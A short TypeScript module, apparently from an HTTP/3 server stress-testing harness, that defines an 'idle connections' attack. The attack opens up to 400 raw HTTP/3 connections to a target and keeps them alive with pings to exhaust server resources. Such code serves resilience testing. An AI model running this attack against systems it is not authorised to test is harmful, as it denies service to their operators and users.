import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../../attack.ts";
import { RawHttp3 } from "../../clients/raw-http3.ts";

/** More than one source may hold. */
const connections = 400;

/** Connections that send no request and stay alive. */
export const idleConnections: Attack = {
  name: "idle connections",
  unit: "connections",
  async run(target, signal, tally) {
    const clients: RawHttp3[] = [];
    for (let i = 0; i < connections && !signal.aborted; i++) {
      const client = await RawHttp3.open(target);
      if (!client.isClosed) tally();
      clients.push(client);
    }
    while (!signal.aborted) {
      for (const client of clients) if (!client.isClosed) client.ping();
      await sleep(1000, undefined, { signal }).catch(() => undefined);
    }
    for (const client of clients) client.close();
  },
};
